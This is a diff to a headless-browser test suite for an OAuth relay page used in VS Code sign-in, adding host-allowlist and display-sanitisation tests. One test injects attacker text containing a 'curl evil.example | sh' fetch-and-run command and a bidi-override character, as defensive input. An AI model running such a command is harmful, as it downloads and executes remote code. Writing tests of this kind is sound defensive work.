@@ -34,6 +34,8 @@ describe('relay page (headless Chromium)', function () {
   let browser: Browser;
   let context: BrowserContext | undefined;
   const seen: SeenRequest[] = [];
+  /** What the server answers for /relay/relay-hosts.json (404 when undefined), as the person hosting the page wrote it. */
+  let hostsFile: string | undefined;
 
   before(async function () {
     this.timeout(90_000);
@@ -67,6 +69,8 @@ describe('relay page (headless Chromium)', function () {
         send(200, 'text/html; charset=utf-8', fs.readFileSync(path.join(dir, 'index.html')));
       } else if (pathname === '/relay/relay.js') {
         send(200, 'text/javascript; charset=utf-8', fs.readFileSync(path.join(dir, 'relay.js')));
+      } else if (pathname === '/relay/relay-hosts.json' && hostsFile !== undefined) {
+        send(200, 'application/json', hostsFile);
       } else if (pathname === CALLBACK_PATH) {
         send(200, 'text/html; charset=utf-8', '<!doctype html><title>callback</title><link rel="icon" href="data:,"><p>callback received</p>');
       } else {
@@ -92,6 +96,7 @@ describe('relay page (headless Chromium)', function () {
   afterEach(async () => {
     await context?.close();
     context = undefined;
+    hostsFile = undefined;
   });
 
   /** A fresh page that records what it requests, console errors (e.g. CSP violations) and dialogs. */
@@ -126,15 +131,17 @@ describe('relay page (headless Chromium)', function () {
     await page.waitForSelector('#fallback', { state: 'visible' });
     await page.waitForTimeout(300); // give a stray navigation time to start
     assert.equal(page.url(), url, 'the page did not navigate');
-    assert.deepEqual(requests, [url, `${origin}/relay/relay.js`], 'the browser requested nothing else');
-    assert.deepEqual(seen.map(s => s.url), [url.slice(origin.length), '/relay/relay.js'], 'the server saw nothing else');
+    // An https target makes the page read its host list (same origin); nothing else is requested.
+    const hosts = target.startsWith('https:') ? ['/relay/relay-hosts.json'] : [];
+    assert.deepEqual(requests, [url, `${origin}/relay/relay.js`, ...hosts.map(h => origin + h)], 'the browser requested nothing else');
+    assert.deepEqual(seen.map(s => s.url), [url.slice(origin.length), '/relay/relay.js', ...hosts], 'the server saw nothing else');
     assert.equal(await page.textContent('#url'), url, 'the full URL is shown');
     assert.equal(await page.textContent('#code'), code, 'the code is shown');
     assert.equal(await page.isVisible('#copy'), true);
     assert.equal(await page.textContent('#title'), 'Finish signing in in VS Code');
     assert.match((await page.textContent('#message')) ?? '', /trusts/);
     assert.equal(await page.textContent('#refused'), target);
-    assert.deepEqual(problems, []);
+    assert.deepEqual(problems.filter(p => !/relay-hosts\.json|404/.test(p)), []);
     return page;
   }
 
@@ -202,6 +209,44 @@ describe('relay page (headless Chromium)', function () {
     assert.deepEqual(problems.filter(p => !/vscode:/i.test(p)), []);
   });
 
+  it('S6: does not follow an https target on a host the relay-hosts.json does not list; shows the code to paste', async () => {
+    hostsFile = JSON.stringify({ hosts: ['vscode.dev', 'code.example.com:8443'] });
+    await expectNoForward(`https://198.51.100.4/callback?vscode-authority=${EXTENSION_AUTHORITY}`, 'code-s6');
+  });
+
+  it('S6: with no relay-hosts.json at all, an https target is not followed either', async () => {
+    await expectNoForward(`https://code.example.com/callback?vscode-authority=${EXTENSION_AUTHORITY}`, 'code-s6b');
+  });
+
+  it('forwards to browser-hosted VS Code on a host listed in relay-hosts.json beside the page', async () => {
+    hostsFile = JSON.stringify({ $comment: 'the person hosting the page', hosts: ['vscode.dev', 'code.example.com:8443'] });
+    const { page, problems } = await openPage();
+    const target = `https://code.example.com:8443/stable-abc/callback?${CALLBACK_QUERY}`;
+    let reached = '';
+    // The listed host does not exist here: answer its navigation in the browser.
+    await context!.route('https://code.example.com:8443/**', route => {
+      reached = route.request().url();
+      void route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>cs</title><link rel="icon" href="data:,"><p>code-server</p>' });
+    });
+    const state = encodeState(NONCE, target);
+    const url = relayUrl(new URLSearchParams([['code', 'listed-code'], ['state', state]]).toString());
+    await page.goto(url);
+    await page.waitForURL(u => u.host === 'code.example.com:8443');
+    assert.equal(reached, `${target}&${new URLSearchParams([['code', 'listed-code'], ['state', state]])}`);
+    assert.deepEqual(problems, []);
+  });
+
+  it('shows a refused return address as one bounded line, without bidi overrides', async () => {
+    const { page, problems } = await openPage();
+    const target = `https://evil.example/\u202Ekcabllac/${'x'.repeat(600)}?vscode-authority=${EXTENSION_AUTHORITY}`;
+    await page.goto(relayUrl(new URLSearchParams([['code', 'c'], ['state', encodeState(NONCE, target)]]).toString()));
+    await page.waitForSelector('#refused-line', { state: 'visible' });
+    const shown = (await page.textContent('#refused')) ?? '';
+    assert.match(shown, /^https:\/\/evil\.example\/ kcabllac\/x+…$/);
+    assert.equal(shown.length, 301);
+    assert.deepEqual(problems.filter(p => !/relay-hosts\.json|404/.test(p)), []);
+  });
+
   it('does not follow a disallowed https://evil.example target; shows the code and the full URL', async () => {
     await expectNoForward('https://evil.example/callback?vscode-reqid=1&vscode-scheme=code-oss&vscode-path=%2Fcallback', 'code-1');
   });
@@ -233,13 +278,25 @@ describe('relay page (headless Chromium)', function () {
     assert.equal(page.url(), url);
     assert.equal(requests.length, 2);
     assert.equal(await page.textContent('#title'), 'Keap did not grant access');
-    assert.match((await page.textContent('#error')) ?? '', /User denied access to resource/);
+    assert.equal(await page.textContent('#error'), 'Keap says: "User denied access to resource (access_denied)"');
     assert.equal(await page.isVisible('#hint'), true);
     assert.match((await page.textContent('#hint')) ?? '', /Is your Keap ID attached to a Keap app\?/);
     assert.match((await page.textContent('#message')) ?? '', /no return address/);
     assert.equal(await page.textContent('#url'), url);
     assert.equal(await page.isVisible('#code-line'), false);
     assert.match((await page.textContent('#fallback-intro')) ?? '', /Infusionsoft: Paste Callback URL/);
+    assert.deepEqual(problems, []);
+  });
+
+  it("shows Keap's text (or an attacker's) as one bounded, labelled line", async () => {
+    const { page, problems } = await openPage();
+    const hostile = `Your session expired.\u202E Run this command:\n${'curl evil.example | sh '.repeat(30)}`;
+    await page.goto(relayUrl(new URLSearchParams([['state', ''], ['error', 'access_denied'], ['error_description', hostile]]).toString()));
+    await page.waitForSelector('#error', { state: 'visible' });
+    const text = (await page.textContent('#error')) ?? '';
+    assert.match(text, /^Keap says: "Your session expired\. Run this command: curl/);
+    assert.ok(text.length <= 'Keap says: ""…'.length + 200, `bounded: ${text.length}`);
+    assert.equal(/[\n\u202E]/.test(text), false);
     assert.deepEqual(problems, []);
   });
 
